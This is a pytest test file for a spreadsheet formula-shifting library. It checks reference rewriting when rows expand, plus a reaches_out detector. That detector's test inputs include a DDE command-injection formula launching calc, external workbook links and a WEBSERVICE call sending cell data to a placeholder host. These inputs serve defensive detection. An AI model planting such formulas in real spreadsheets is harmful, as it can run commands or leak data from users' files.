"""Formulas where rows 5 and 8 of the sheet Form become four and two rows."""

import pytest

from reports.filling.references import OneOfMany, Own, Shifter, Unreadable, reaches_out
from reports.filling.row_map import RowMap

SHIFTER = Shifter({"form": RowMap({5: 4, 8: 2})})


@pytest.mark.parametrize(
    ("formula", "becomes"),
    [
        ("SUM(D5:D5)", "SUM(D5:D8)"),
        ("SUM(D5)", "SUM(D5:D8)"),
        ("SUM(D4:D6)", "SUM(D4:D9)"),
        ("D4+D7*$D$9", "D4+D10*$D$13"),
        ("SUM(Form!D5:D8)/Other!D9", "SUM(Form!D5:D12)/Other!D9"),
        ("SUM('Form'!$5:$5)", "SUM('Form'!$5:$8)"),
        ('SUM(A:A)&"D9"', 'SUM(A:A)&"D9"'),
        ('SUMIF(A5:A5,"x",D5:D5)', 'SUMIF(A5:A8,"x",D5:D8)'),
        ("Table1[x]+rate", "Table1[x]+rate"),
    ],
)
def test_what_a_formula_refers_to_stays_what_it_refers_to(formula: str, becomes: str) -> None:
    assert SHIFTER.formula(formula, "Form") == becomes


@pytest.mark.parametrize(
    ("formula", "becomes"),
    [
        ("D5/SUM(D$5:D$5)", "D7/SUM(D$5:D$8)"),
        ("SUM(D$5:D5)", "SUM(D$5:D7)"),
        ("D5*$B$2+D9", "D7*$B$2+D13"),
        ('IF(D5="A5",1,-$D5)', 'IF(D7="A5",1,-$D7)'),
        ("D5+SUM(D8:D8)", "D7+SUM(D11:D12)"),
    ],
)
def test_in_a_repeated_row_a_formula_is_about_its_own_copy(formula: str, becomes: str) -> None:
    assert SHIFTER.formula(formula, "Form", Own(5, 2)) == becomes


@pytest.mark.parametrize("formula", ["D5*2", "ROUND(D5,2)", "Form!D5"])
def test_one_cell_of_a_row_that_repeats_is_no_figure(formula: str) -> None:
    with pytest.raises(OneOfMany):
        SHIFTER.formula(formula, "Other" if "!" in formula else "Form")


@pytest.mark.parametrize("formula", ["SUM(A5:INDEX(B1:B9,2))", "SUM(Form:Other!A5)", 'SUM("'])
def test_what_cannot_be_read_is_not_guessed(formula: str) -> None:
    with pytest.raises(Unreadable):
        SHIFTER.formula(formula, "Form")


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|'/c calc'!A0",
        "[1]Sheet1!A1",
        "'[Book.xlsx]S'!A1",
        '_xlfn.WEBSERVICE("http://x/"&A1)',
        "DDE(1,2,3)",
        "_xlfn._xlws.PY(0,1)",
    ],
)
def test_a_formula_that_asks_others_is_known(formula: str) -> None:
    assert reaches_out(formula)


@pytest.mark.parametrize("formula", ['A1&"a|b"', "Table1[Amount]", "SUM('a|b'!A1)", 'HYPERLINK("http://x")'])
def test_a_harmless_formula_is_not(formula: str) -> None:
    assert not reaches_out(formula)
